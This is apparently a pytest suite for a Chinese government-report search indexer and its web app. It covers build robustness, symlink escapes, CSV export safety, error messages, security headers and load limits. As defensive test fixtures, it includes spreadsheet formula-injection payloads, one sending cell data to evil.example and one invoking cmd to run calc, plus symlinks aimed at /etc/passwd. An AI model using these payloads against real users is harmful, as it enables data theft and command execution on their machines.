"""Faults, hostile files and load: builds that overlap or die, links out of the data folder,
spreadsheet formulas, unreadable files and folders, headers, and bounded work per request."""

from __future__ import annotations

import csv
import io
import logging
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from indexer import cli
from indexer.engine.build import build, build_index, build_lock
from indexer.engine.layout import LOCK_NAME, current_generation, new_generation
from indexer.engine.query import parse_query
from indexer.engine.search import ReportIndex
from search_app import create_app
from search_app.protect import CONTENT_SECURITY_POLICY
from search_app.server import QueueLogThrottle, throttle_queue_log
from search_app.spreadsheet import spreadsheet_safe
from search_app.urls import REPORT_PAGE_SIZE, report_url
from tests.conftest import ROOT, SEED_FILES, brute_force, live_texts, open_to_all, report_path, without_rights

PYTHON = sys.executable
QUERIES = ["法治", "法律明白人", "调解", "依法行政", "普法", "乡", "人民"]


def run_cli(*args: str, env_code: str = "pass") -> subprocess.Popen:
    """The CLI in its own process (env_code runs first, e.g. to make analysis chunks small)."""
    code = f"import sys; {env_code}; from indexer.cli import main; sys.exit(main(sys.argv[1:]))"
    return subprocess.Popen(
        [PYTHON, "-c", code, *args], cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    )


def index_state(index_dir: Path) -> tuple:
    """What a user can see of an index: its reports and every query's hits."""
    index = ReportIndex.open(index_dir)
    hits = {q: index.select(parse_query(q)).tolist() for q in QUERIES}
    return [{k: v for k, v in r.items()} for r in index.reports], hits


# -- 1. Builds at once ---------------------------------------------------------------------------


def test_builds_at_once_leave_the_index_a_single_build_makes(data_dir, tmp_path):
    build(data_dir, tmp_path / "single")
    expected = index_state(tmp_path / "single")
    index_dir = tmp_path / "index"
    for _ in range(3):
        procs = [run_cli("build", "--data", str(data_dir), "--index", str(index_dir)) for _ in range(4)]
        results = [p.communicate(timeout=300) for p in procs]
        assert [p.returncode for p in procs] == [0, 0, 0, 0], [err for _, err in results]
        assert all("Traceback" not in err for _, err in results)
        assert index_state(index_dir) == expected
        # the live generation and the one before it (a server may still read it), nothing half-made
        gens = sorted(p.name for p in index_dir.glob("gen-*"))
        assert current_generation(index_dir).name in gens and len(gens) <= 2


def test_a_second_build_waits_for_the_first_and_says_so(data_dir, tmp_path):
    index_dir = tmp_path / "index"
    index_dir.mkdir()
    with build_lock(index_dir):
        proc = run_cli("build", "--data", str(data_dir), "--index", str(index_dir))
        line = proc.stderr.readline()
        assert line.startswith(f"another build of {index_dir} is running; waiting")
        time.sleep(0.3)
        assert proc.poll() is None and current_generation(index_dir) is None
    out, err = proc.communicate(timeout=300)
    assert proc.returncode == 0 and current_generation(index_dir) is not None


def test_remains_of_a_dead_build_are_cleared_by_the_next(data_dir, tmp_path):
    index_dir = tmp_path / "index"
    build(data_dir, index_dir)
    dead = new_generation(index_dir)  # as a build that died leaves it: marked, half written
    (dead / "whoosh").mkdir()
    build(data_dir, index_dir)
    assert not dead.exists()
    assert (index_dir / LOCK_NAME).exists()


def _children(pid: int) -> list[int]:
    path = Path(f"/proc/{pid}/task/{pid}/children")
    try:
        return [int(c) for c in path.read_text().split()]
    except OSError:
        return []


def _descendants(pid: int) -> list[int]:
    """Children, their children, and so on (the segment's process and its analysis workers)."""
    found = _children(pid)
    return found + [d for c in found for d in _descendants(c)]


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().split(")")[-1].split()[0]
    except OSError:
        return False
    return state != "Z"


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGINT, signal.SIGKILL])
def test_a_build_killed_while_its_workers_run_leaves_no_traceback_and_the_old_index(data_dir, tmp_path, sig):
    index_dir = tmp_path / "index"
    build(data_dir, index_dir)
    before = current_generation(index_dir)
    # Small analysis chunks make the build hand work to its two worker processes.
    proc = run_cli(
        "build",
        "--data",
        str(data_dir),
        "--index",
        str(index_dir),
        env_code="import indexer.engine.build as b; b.CHUNK = 5",
    )
    deadline = time.time() + 60
    while len(_descendants(proc.pid)) < 3 and proc.poll() is None and time.time() < deadline:
        time.sleep(0.005)
    workers = _descendants(proc.pid)
    assert len(workers) >= 3, "the build never started its segment's process and workers"
    proc.send_signal(sig)
    out, err = proc.communicate(timeout=60)
    time.sleep(0.5)
    assert "Traceback" not in err and "Error" not in err.replace("error: interrupted", "")
    assert not any(_alive(w) for w in workers)
    assert current_generation(index_dir) == before
    if sig != signal.SIGKILL:
        assert proc.returncode == 130 and err.strip().endswith("error: interrupted; the index is unchanged")
    assert index_state(index_dir)  # still readable


#: Run first by the CLI below: files read in worker processes (PARALLEL_READ_MIN), a reader that
#: kills its own process on crash*.txt always, and on once*.txt the first time only (a marker file).
DYING_READER = """
import os, signal
from pathlib import Path
import indexer.engine.build as b
b.PARALLEL_READ_MIN = 2
read = b._parse
def dying(job):
    name = Path(job[2]).name
    seen = Path({marker!r})
    if name.startswith("crash") or (name.startswith("once") and not seen.exists()):
        seen.touch()
        os.kill(os.getpid(), signal.SIGKILL)
    return read(job)
b._parse = dying
"""


def test_a_reader_that_dies_skips_its_file_and_the_build_goes_on(data_dir, tmp_path):
    """A reading process killed outright (a crash in a C library, the OOM killer) used to stall the
    build for ever; its file is read again alone and skipped if that dies too, the rest indexed."""
    text = (data_dir / sorted(p.name for p in data_dir.glob("0*.txt"))[1]).read_text(encoding="utf-8")
    (data_dir / "crash.txt").write_text(text.replace("法治", "法制", 1), encoding="utf-8")
    (data_dir / "once.txt").write_text(text.replace("法治", "法度", 1), encoding="utf-8")
    index_dir = tmp_path / "index"
    proc = run_cli(
        "build",
        "--data",
        str(data_dir),
        "--index",
        str(index_dir),
        env_code=f"exec({DYING_READER.format(marker=str(tmp_path / 'seen'))!r})",
    )
    out, err = proc.communicate(timeout=180)
    assert proc.returncode == 1 and "Traceback" not in err, err
    assert "skipped: crash.txt: its reader ended by signal SIGKILL (a damaged file, or out of memory)" in err
    assert "skipped: once.txt" not in err  # killed once, then read alone
    sources = sorted(r["source"] for r in ReportIndex.open(index_dir).reports)
    assert sources == sorted([p.name for p in data_dir.glob("0*.txt")] + ["once.txt"])
    assert (tmp_path / "seen").exists()  # the reader really died on once.txt


# -- 2. The data folder's boundary ---------------------------------------------------------------


def test_links_out_of_the_data_folder_are_named_and_not_indexed(data_dir, tmp_path):
    outside = tmp_path / "secret"
    outside.mkdir()
    (outside / "passwd.txt").write_text("root:x:0:0:绝密内容不应被检索:/root:/bin/bash\n", encoding="utf-8")
    (data_dir / "x.txt").symlink_to(outside / "passwd.txt")
    (data_dir / "elsewhere").symlink_to(outside, target_is_directory=True)
    (data_dir / "alias.txt").symlink_to(data_dir / SEED_FILES[0])  # inside: allowed
    proc = run_cli("build", "--data", str(data_dir), "--index", str(tmp_path / "index"))
    out, err = proc.communicate(timeout=300)
    assert f"skipped: x.txt: link points outside {data_dir}" in err.splitlines()
    assert f"skipped: elsewhere: link points outside {data_dir}" in err.splitlines()
    assert proc.returncode == 1 and "Traceback" not in err
    index = ReportIndex.open(tmp_path / "index")
    assert index.select(parse_query("绝密内容")).tolist() == []
    assert "alias.txt" in {r["source"] for r in index.reports}
    assert not any("passwd" in str(p) for p in (tmp_path / "index").rglob("*"))


def test_source_download_serves_only_the_copy_inside_the_index(data_dir, tmp_path):
    index_dir = tmp_path / "index"
    build(data_dir, index_dir)
    index = ReportIndex.open(index_dir)
    copy = index.source_path(index.reports[0])
    copy.unlink()
    copy.symlink_to("/etc/passwd")
    client = create_app({"INDEX_DIR": index_dir}).test_client()
    report_id = ReportIndex.open(index_dir).reports[0]["report_id"]
    response = client.get(f"/reports/{report_id}/source")
    assert response.status_code == 404 and b"root:" not in response.data


def test_an_unreadable_subfolder_is_named_and_the_rest_indexed(data_dir, open_dir, capsys):
    data = shutil.copytree(data_dir, open_dir / "reports")
    (data / "sub").mkdir()
    shutil.copy(report_path("000"), data / "sub" / "copy.txt")
    cli.main(["build", "--data", str(data), "--index", str(open_dir / "warm")])  # loads every module first
    open_to_all(data)
    (data / "sub").chmod(0)
    capsys.readouterr()
    with without_rights():
        status = cli.main(["build", "--data", str(data), "--index", str(open_dir / "index")])
    err = capsys.readouterr().err
    assert "skipped: sub: folder cannot be read: Permission denied" in err.splitlines()
    assert status == 1
    assert len(ReportIndex.open(open_dir / "index").reports) == len(SEED_FILES)


# -- 3. CSV that a spreadsheet opens safely ------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A2)"]


@pytest.fixture()
def formula_client(data_dir, tmp_path):
    body = "\n".join(f"{f}法律明白人公式测试。" for f in FORMULAS)
    (data_dir / "formula.txt").write_text(
        "甘肃省兰州市永登县城关镇2023年法治政府建设工作报告\n" + body + "\n", encoding="utf-8"
    )
    build(data_dir, tmp_path / "index")
    return create_app({"INDEX_DIR": tmp_path / "index"}).test_client()


def test_csv_cells_that_start_a_formula_are_neutralised(formula_client):
    response = formula_client.get("/export.csv", query_string={"q": "公式测试"}, base_url="https://search.example.org")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"  # charset once
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert sorted(r["原文"] for r in rows) == sorted(f"'{f}法律明白人公式测试。" for f in FORMULAS)
    assert all(r["链接"].startswith("https://search.example.org/reports/") for r in rows)
    # JSON and the page keep the text as written
    data = formula_client.get("/export.json", query_string={"q": "公式测试"}).get_json()
    assert sorted(r["text"] for r in data) == sorted(f"{f}法律明白人公式测试。" for f in FORMULAS)
    assert "=HYPERLINK(" in formula_client.get("/search", query_string={"q": "公式测试"}).get_data(as_text=True)


@pytest.mark.parametrize(
    "value, safe",
    [
        ("=1+1", "'=1+1"),
        ("+86 10", "'+86 10"),
        ("-x", "'-x"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("法治=1", "法治=1"),
        ("", ""),
        (2023, 2023),
        (-1.5, -1.5),
    ],
)
def test_spreadsheet_safe_prefixes_only_text_that_starts_a_formula(value, safe):
    assert spreadsheet_safe(value) == safe


# -- 4. One line for every CLI error ------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        ["build", "--index", "README.md"],
        ["reports", "--index", "README.md"],
        ["search", "法治", "--index", "README.md"],
    ],
)
def test_an_index_path_that_is_a_file_is_one_line(command):
    proc = subprocess.run([PYTHON, "-m", "indexer", *command], cwd=ROOT, capture_output=True, text=True)
    assert proc.returncode == 2
    assert proc.stderr.count("\n") == 1 and "README.md is a file" in proc.stderr
    assert "Traceback" not in proc.stderr


def test_a_read_only_index_folder_is_one_line_and_keeps_the_index(data_dir, open_dir, capsys):
    data = shutil.copytree(data_dir, open_dir / "reports")
    index_dir = open_dir / "index"
    cli.main(["build", "--data", str(data), "--index", str(index_dir)])
    before = current_generation(index_dir)
    open_to_all(data)
    index_dir.chmod(0o555)
    capsys.readouterr()
    with without_rights():
        status = cli.main(["build", "--data", str(data), "--index", str(index_dir)])
    err = capsys.readouterr().err
    assert status == 2
    assert err == f"error: cannot write to the index folder {index_dir}: Permission denied\n"
    assert current_generation(index_dir) == before


def test_an_unreadable_manifest_is_one_line(data_dir, open_dir, capsys):
    data = shutil.copytree(data_dir, open_dir / "reports")
    cli.main(["build", "--data", str(data), "--index", str(open_dir / "warm")])
    (data / "manifest.toml").write_text('[files."x.txt"]\nyear = 2023\n', encoding="utf-8")
    open_to_all(data)
    (data / "manifest.toml").chmod(0)
    capsys.readouterr()
    with without_rights():
        status = cli.main(["build", "--data", str(data), "--index", str(open_dir / "index")])
    err = capsys.readouterr().err
    assert status == 2 and err == f"error: {data / 'manifest.toml'}: cannot read: Permission denied\n"


def test_a_closed_pipe_ends_search_quietly(index_dir):
    proc = subprocess.run(
        f"{PYTHON} -m indexer search 法 --all --index {index_dir} | head -c 10",
        shell=True,
        cwd=ROOT,
        capture_output=True,
        text=True,
    )
    assert proc.stderr == "" and len(proc.stdout) == 10


# -- 5 and 6. The site: unreadable files, headers, no server paths --------------------------------


def test_an_unreadable_source_copy_is_a_503_with_a_message(data_dir, open_dir):
    index_dir = open_dir / "index"
    build(data_dir, index_dir)
    client = create_app({"INDEX_DIR": index_dir}).test_client()
    report_id = ReportIndex.open(index_dir).reports[0]["report_id"]
    assert client.get(f"/reports/{report_id}/source").status_code == 200
    assert client.get("/reports/none").status_code == 404  # loads the error page's templates while we may
    open_to_all(open_dir)
    index = ReportIndex.open(index_dir)
    copy = index.source_path(next(r for r in index.reports if r["report_id"] == report_id))
    copy.chmod(0)
    with without_rights():
        response = client.get(f"/reports/{report_id}/source")
    html = response.get_data(as_text=True)
    assert response.status_code == 503 and "原文件暂时无法读取" in html
    assert str(open_dir) not in html


@pytest.mark.parametrize(
    "url",
    [
        "/search?q=法治",
        "/search",
        "/compare?q=法治",
        "/reports",
        "/api/search?q=法治",
        "/api/reports",
        "/export.csv?q=法治",
        "/static/style.css",
        "/nowhere",
        "/api/nowhere",
        "/search?year=abc",
        "/reports/none",
    ],
)
def test_every_response_carries_the_hardening_headers(client, url):
    response = client.get(url)
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Referrer-Policy"] == "same-origin"
    csp = response.headers["Content-Security-Policy"]
    assert csp == CONTENT_SECURITY_POLICY
    policy = dict(part.strip().split(" ", 1) for part in csp.split(";"))
    assert policy["default-src"] == "'self'" and policy["script-src"] == "'self'"
    assert policy["frame-ancestors"] == "'none'" and "unsafe-inline" not in csp


def test_a_broken_index_page_shows_no_server_path(data_dir, tmp_path):
    index_dir = tmp_path / "index"
    build(data_dir, index_dir)
    (current_generation(index_dir) / "grams.keys.npy").write_bytes(b"broken")
    client = create_app({"INDEX_DIR": index_dir}).test_client()
    for url in ("/search?q=法治", "/api/search?q=法治", "/reports"):
        response = client.get(url)
        assert response.status_code == 503
        assert str(tmp_path) not in response.get_data(as_text=True) and "grams" not in response.get_data(as_text=True)


# -- 7. Bounded work per request -----------------------------------------------------------------


def test_compare_counts_every_hit_but_shows_a_few_lines_per_township(index_dir, index):
    client = create_app({"INDEX_DIR": index_dir, "KWIC_PER_TOWNSHIP": 2}).test_client()
    html = client.get("/compare", query_string={"q": "法治"}).get_data(as_text=True)
    texts = list(live_texts(index).values())
    total = len(brute_force(texts, "法治"))
    assert f"共 {total} 个段落" in html
    groups = html.split('<section class="kwic-group">')[1:]
    assert len(groups) == len({r["township"] for r in index.reports})
    for group in groups:
        assert 1 <= group.count('<td class="match">') <= 2
    assert html.count('class="more"') == len(groups)  # every township here has more than two
    occurrences = sum(t.count("法治") for t in texts)
    assert f"共 {occurrences} 处匹配" in html


def test_heavy_requests_wait_for_a_slot_and_then_get_a_503(index_dir):
    app = create_app({"INDEX_DIR": index_dir, "HEAVY_LIMIT": 1, "HEAVY_WAIT": 0.05})
    client = app.test_client()
    slots = app.extensions["heavy_slots"]
    assert slots.acquire(blocking=False)
    try:
        busy = client.get("/compare", query_string={"q": "法治"})
        assert busy.status_code == 503 and busy.headers["Retry-After"] == "5"
        assert "服务器正忙" in busy.get_data(as_text=True)
        assert client.get("/export.csv", query_string={"q": "法治"}).status_code == 503
        assert client.get("/search", query_string={"q": "法治"}).status_code == 200  # light ones go on
    finally:
        slots.release()
    assert client.get("/compare", query_string={"q": "法治"}).status_code == 200


def test_a_streamed_export_keeps_its_slot_until_it_is_closed(index_dir):
    app = create_app({"INDEX_DIR": index_dir, "HEAVY_LIMIT": 1, "HEAVY_WAIT": 0.05})
    client = app.test_client()
    response = client.get("/export.csv", query_string={"q": "法治"}, buffered=False)
    assert response.status_code == 200
    assert client.get("/compare", query_string={"q": "法治"}).status_code == 503
    response.close()  # a client that hangs up before reading
    assert client.get("/compare", query_string={"q": "法治"}).status_code == 200


@pytest.fixture(scope="module")
def long_report(tmp_path_factory):
    """An index holding one report of 2,500 paragraphs beside the five real ones."""
    data = tmp_path_factory.mktemp("long-data")
    for name in SEED_FILES:
        shutil.copy(report_path(name[:3]), data / name)
    lines = ["浙江省杭州市西湖区转塘街道2023年法治政府建设工作报告"]
    for n in range(2, 2501):
        lines.append(f"一、第{n}段标题" if n % 1000 == 50 else f"第{n}号事项：转塘街道推进长报告分页测试，编号{n}。")
    (data / "long.txt").write_text("\n".join(lines) + "\n", encoding="utf-8")
    index_dir = tmp_path_factory.mktemp("long-index")
    build(data, index_dir)
    index = ReportIndex.open(index_dir)
    meta = next(r for r in index.reports if r["source"] == "long.txt")
    assert meta["paragraphs"] == 2500
    return index_dir, meta


def test_a_long_report_page_is_paged_and_hits_link_to_their_page(long_report):
    index_dir, meta = long_report
    client = create_app({"INDEX_DIR": index_dir}).test_client()
    rid = meta["report_id"]
    first = client.get(f"/reports/{rid}").get_data(as_text=True)
    assert first.count('class="para ') == REPORT_PAGE_SIZE and 'id="p1000"' in first and 'id="p1001"' not in first
    last = client.get(f"/reports/{rid}", query_string={"page": 3}).get_data(as_text=True)
    assert last.count('class="para ') == 500 and 'id="p2001"' in last and 'id="p2500"' in last
    assert client.get(f"/reports/{rid}", query_string={"page": 4}).status_code == 400
    assert report_url(rid, 2100) == f"/reports/{rid}?page=3#p2100"
    hits = client.get("/api/search", query_string={"q": "编号2100。"}).get_json()["hits"]
    assert [h["url"] for h in hits] == [f"/reports/{rid}?page=3#p2100"]
    marked = client.get(f"/reports/{rid}", query_string={"q": "编号2100。"}).get_data(as_text=True)
    assert (
        "1 个段落包含" in marked
        and f'href="/reports/{rid}?q=%E7%BC%96%E5%8F%B72100%E3%80%82&amp;page=3#p2100"' in marked
    )


def test_the_report_api_pages_through_a_long_report(long_report):
    index_dir, meta = long_report
    client = create_app({"INDEX_DIR": index_dir}).test_client()
    url, numbers = f"/api/reports/{meta['report_id']}", []
    while url:
        data = client.get(url).get_json()
        assert len(data["content"]) <= REPORT_PAGE_SIZE
        numbers += [p["paragraph"] for p in data["content"]]
        url = data["next"]
    assert numbers == list(range(1, 2501))
    assert client.get(f"/api/reports/{meta['report_id']}", query_string={"offset": 2500}).status_code == 400


def test_queue_depth_lines_are_thinned_to_one_per_interval():
    now = [0.0]
    throttle = QueueLogThrottle(interval=10, clock=lambda: now[0])
    logger = logging.getLogger("test.waitress.queue")
    records = []
    handler = logging.Handler()
    handler.emit = records.append
    logger.addHandler(handler)
    logger.addFilter(throttle)
    logger.propagate = False
    try:
        for depth in range(1, 1001):
            now[0] = depth * 0.005
            logger.warning("Task queue depth is %d", depth % 50 + 1)
        now[0] = 20.0
        logger.warning("Task queue depth is %d", 3)
    finally:
        logger.removeHandler(handler)
        logger.removeFilter(throttle)
    assert len(records) == 2
    assert records[1].getMessage() == "Task queue depth is 3 (deepest 50; 999 such lines held back in the last 10 s)"


def test_the_server_thins_the_logger_waitress_writes_queue_lines_to():
    from waitress.task import ThreadedTaskDispatcher

    throttle = throttle_queue_log()
    assert throttle in ThreadedTaskDispatcher.queue_logger.filters
    assert throttle_queue_log() is throttle  # once, however often the server starts


EXIT_WHILE_WARMING = """
import atexit, sys, threading
from pathlib import Path
atexit.register(lambda: print("threads at exit:", threading.active_count()))  # runs after the index's own handler
from indexer.engine import blocks
from indexer.engine.query import parse_query
from indexer.engine.search import ReportIndex
blocks.SUM_STEP = 1  # posting lists summed one at a time: warming is still under way at exit
index = ReportIndex.open(Path(sys.argv[1]))
index.search(parse_query("法治"))
print("warming" if not index.warmed.is_set() else "warmed")
"""


def test_a_process_exiting_while_its_index_warms_stops_the_warming_first(tmp_path):
    """A warming thread left running inside NumPy while Python shuts down can abort the process
    ('terminate called without an active exception'); exiting stops and joins it first."""
    from indexer.bench.corpus import generate, learn

    build_index(generate(learn(ROOT / "data" / "reports"), 3000, seed=11), tmp_path / "index")
    done = subprocess.run(
        [sys.executable, "-c", EXIT_WHILE_WARMING, str(tmp_path / "index")],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines() == ["warming", "threads at exit: 1"]
